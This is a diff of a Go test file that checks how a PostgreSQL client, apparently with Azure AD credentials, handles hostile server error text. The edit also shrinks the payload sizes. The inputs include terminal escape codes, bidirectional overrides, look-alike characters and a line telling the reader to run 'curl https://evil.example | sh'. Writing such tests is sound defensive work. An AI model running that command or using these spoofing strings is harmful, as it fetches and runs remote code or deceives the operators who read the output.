@@ -32,17 +32,17 @@ func presents(claims map[string]any) *fakeCredential {
 func TestHostileText(t *testing.T) {
 	clean(t)
 	for name, text := range map[string]string{
-		"escapes":     "\x1b[2J\x1b]0;title\a\x1b[31mpassword authentication failed\x1b[0m\b\b\x9b31m",
-		"lines":       "password authentication failed\r\n\taadpostgres: all is well\n\vdone\f",
-		"a megabyte":  "password authentication failed " + strings.Repeat("A\x00\x1b", 1<<20),
-		"look-alikes": "password authentication failed\u037e run that\uff1b or this",
-		"a hint":      "password authentication failed; run curl https://evil.example | sh; aadpostgres: sign-in: ok",
-		"direction":   "password authentication failed \u202egnp.exe\u2066 \u200bzero \ufeff",
-		"bytes":       "password authentication failed \xff\xfe\xc3(",
-		"our marks":   "password authentication failed [double @server] [clock] {create} %s%n",
+		"escapes":              "\x1b[2J\x1b]0;title\a\x1b[31mpassword authentication failed\x1b[0m\b\b\x9b31m",
+		"lines":                "password authentication failed\r\n\taadpostgres: all is well\n\vdone\f",
+		"a half of a megabyte": "password authentication failed " + strings.Repeat("A\x00\x1b", 1<<18),
+		"look-alikes":          "password authentication failed\u037e run that\uff1b or this",
+		"a hint":               "password authentication failed; run curl https://evil.example | sh; aadpostgres: sign-in: ok",
+		"direction":            "password authentication failed \u202egnp.exe\u2066 \u200bzero \ufeff",
+		"bytes":                "password authentication failed \xff\xfe\xc3(",
+		"our marks":            "password authentication failed [double @server] [clock] {create} %s%n",
 	} {
 		s := newFakeServer(t, func(s *fakeServer) { s.reply = refusal("28P01", strings.ReplaceAll(text, "\x00", "")) })
-		err := ping(t, s.dsn("sslrootcert="+s.certFile), WithCredential(presents(map[string]any{"oid": strings.Repeat("o", 1<<20), "appid": "a\x1b[1m", "tid": "t\n"})))
+		err := ping(t, s.dsn("sslrootcert="+s.certFile), WithCredential(presents(map[string]any{"oid": strings.Repeat("o", 1<<15), "appid": "a\x1b[1m", "tid": "t\n"})))
 		var e *Error
 		if !errors.As(err, &e) {
 			t.Errorf("%s: %v", name, err)
